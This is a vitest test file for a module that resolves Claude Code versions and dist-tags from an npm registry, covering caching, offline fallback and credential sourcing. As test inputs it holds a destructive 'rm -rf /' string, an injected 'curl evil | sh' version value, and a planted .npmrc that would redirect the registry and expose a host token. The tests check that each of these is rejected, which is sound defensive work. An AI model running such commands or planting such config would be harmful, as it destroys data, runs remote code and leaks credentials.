import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  type FetchJson,
  isDistTag,
  isExactVersion,
  resolveClaudeCodeVersion,
  userNpmRegistry,
} from "./claude-code-version.js";

let cacheDir: string;
beforeEach(async () => {
  cacheDir = await mkdtemp(join(tmpdir(), "cb-ccv-"));
});
afterEach(() => rm(cacheDir, { recursive: true, force: true }));

const registry = { url: "https://npm.example.test/", authorization: "Bearer npm-token" };

/** An injected fetch answering with `tags` (or failing), recording each request. */
function registryAnswering(answer: () => Record<string, string> | Error) {
  const requests: { url: string; headers: Record<string, string> }[] = [];
  const fetch: FetchJson = async (url, init) => {
    requests.push({ url, headers: init.headers });
    const tags = answer();
    if (tags instanceof Error) throw tags;
    return { status: 200, json: async () => tags };
  };
  return { fetch, requests };
}

function clock(start: string) {
  let now = Date.parse(start);
  return { now: () => new Date(now), advanceHours: (hours: number) => (now += hours * 3_600_000) };
}

describe("claudeCode.version", () => {
  it("tells versions from dist-tags", () => {
    expect(isExactVersion("2.1.332")).toBe(true);
    expect(isExactVersion("2.2.0-beta.1")).toBe(true);
    expect(isDistTag("latest")).toBe(true);
    expect(isDistTag("stable")).toBe(true);
    expect(isDistTag("2.1.332")).toBe(false);
    expect(isDistTag("^2.1")).toBe(false);
    expect(isDistTag("latest; rm -rf /")).toBe(false);
  });

  it("uses an exact version as it is, asking nobody", async () => {
    const { fetch, requests } = registryAnswering(() => ({ latest: "9.9.9" }));
    expect(await resolveClaudeCodeVersion("2.1.332", { cacheDir, registry, fetch })).toEqual({
      version: "2.1.332",
      from: "exact",
    });
    expect(requests).toHaveLength(0);
  });

  it("resolves a dist-tag through the registry once a day, with npm's credentials", async () => {
    let latest = "2.1.340";
    const { fetch, requests } = registryAnswering(() => ({ latest, next: "2.2.0-beta.1" }));
    const time = clock("2026-12-05T08:00:00Z");
    const options = { cacheDir, registry, fetch, now: time.now };

    expect(await resolveClaudeCodeVersion("latest", options)).toEqual({
      version: "2.1.340",
      tag: "latest",
      resolvedAt: "2026-12-05T08:00:00.000Z",
      from: "registry",
    });
    expect(requests).toEqual([
      {
        url: "https://npm.example.test/-/package/@anthropic-ai%2fclaude-code/dist-tags",
        headers: { accept: "application/json", authorization: "Bearer npm-token" },
      },
    ]);

    latest = "2.1.341"; // released since: not seen until the day is over
    time.advanceHours(23);
    expect(await resolveClaudeCodeVersion("latest", options)).toMatchObject({
      version: "2.1.340",
      from: "cache",
      resolvedAt: "2026-12-05T08:00:00.000Z",
    });
    expect(requests).toHaveLength(1);

    time.advanceHours(2);
    expect(await resolveClaudeCodeVersion("latest", options)).toMatchObject({
      version: "2.1.341",
      from: "registry",
    });
    expect(requests).toHaveLength(2);
    const cache = JSON.parse(await readFile(join(cacheDir, "claude-code-versions.json"), "utf8"));
    expect(cache.entries["https://npm.example.test/@anthropic-ai/claude-code@latest"]).toEqual({
      version: "2.1.341",
      resolvedAt: "2026-12-06T09:00:00.000Z",
    });

    // Another tag is its own entry.
    expect(await resolveClaudeCodeVersion("next", options)).toMatchObject({ version: "2.2.0-beta.1" });
    expect(requests).toHaveLength(3);
  });

  it("offline: uses a stale answer and says so; without one, fails in one line", async () => {
    let online = true;
    const { fetch } = registryAnswering(() =>
      online
        ? { latest: "2.1.340" }
        : Object.assign(new TypeError("fetch failed"), { cause: { code: "ENOTFOUND" } }),
    );
    const time = clock("2026-12-05T08:00:00Z");
    await resolveClaudeCodeVersion("latest", { cacheDir, registry, fetch, now: time.now });
    online = false;
    time.advanceHours(48);
    const stale = await resolveClaudeCodeVersion("latest", { cacheDir, registry, fetch, now: time.now });
    expect(stale).toMatchObject({ version: "2.1.340", from: "stale-cache" });
    expect(stale.warning).toBe(
      'https://npm.example.test/ did not answer (ENOTFOUND); using Claude Code 2.1.340, "latest" as of 2026-12-05T08:00:00.000Z',
    );

    const empty = await mkdtemp(join(tmpdir(), "cb-ccv-empty-"));
    try {
      await expect(
        resolveClaudeCodeVersion("latest", { cacheDir: empty, registry, fetch, now: time.now }),
      ).rejects.toMatchObject({
        code: "PREPARE_FAILED",
        message:
          'cannot resolve claudeCode.version "latest": https://npm.example.test/ did not answer (ENOTFOUND)',
        hint: "set claudeCode.version to an exact version, or run again when the npm registry is reachable",
      });
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
  });

  it("refuses a tag the registry does not have, and an answer that is not a version", async () => {
    const unknown = registryAnswering(() => ({ latest: "2.1.340", stable: "2.1.300" }));
    await expect(
      resolveClaudeCodeVersion("nightly", { cacheDir, registry, fetch: unknown.fetch }),
    ).rejects.toMatchObject({
      code: "INVALID_CONFIG",
      message:
        'claudeCode.version "nightly": https://npm.example.test/ has no such dist-tag for @anthropic-ai/claude-code (it has latest, stable)',
    });
    const hostile = registryAnswering(() => ({ latest: '2.1.0" && curl evil | sh && echo "' }));
    await expect(
      resolveClaudeCodeVersion("latest", { cacheDir, registry, fetch: hostile.fetch }),
    ).rejects.toMatchObject({ code: "PREPARE_FAILED" });
    await expect(resolveClaudeCodeVersion("^2.1", { cacheDir, registry })).rejects.toMatchObject({
      code: "INVALID_CONFIG",
    });
  });
});

describe("the user's npm registry", () => {
  const saved = { cwd: process.cwd(), env: { ...process.env } };
  afterEach(() => {
    process.chdir(saved.cwd);
    for (const name of Object.keys(process.env)) if (!(name in saved.env)) delete process.env[name];
    Object.assign(process.env, saved.env);
  });

  it("comes from the user's npm configuration, never from the project's .npmrc the agent can write", async () => {
    const project = await mkdtemp(join(tmpdir(), "cb-npmrc-project-"));
    const home = await mkdtemp(join(tmpdir(), "cb-npmrc-home-"));
    try {
      await writeFile(join(project, "package.json"), "{}\n");
      await writeFile(
        join(project, ".npmrc"),
        // biome-ignore lint/suspicious/noTemplateCurlyInString: npm's own ${VAR} expansion, planted on purpose
        "registry=https://planted.example.test/\n@anthropic-ai:registry=https://planted.example.test/\n//planted.example.test/:_authToken=${NPM_TOKEN}\n",
      );
      await writeFile(
        join(home, ".npmrc"),
        "@anthropic-ai:registry=https://mirror.example.test/npm/\n//mirror.example.test/npm/:_authToken=user-token\n",
      );
      process.chdir(project);
      process.env.npm_config_userconfig = join(home, ".npmrc");
      process.env.NPM_TOKEN = "host-secret";
      for (const name of Object.keys(process.env))
        if (/^npm_config_registry$/i.test(name)) delete process.env[name];
      expect(await userNpmRegistry()).toEqual({
        url: "https://mirror.example.test/npm/",
        authorization: "Bearer user-token",
      });
    } finally {
      await rm(project, { recursive: true, force: true });
      await rm(home, { recursive: true, force: true });
    }
  });
});
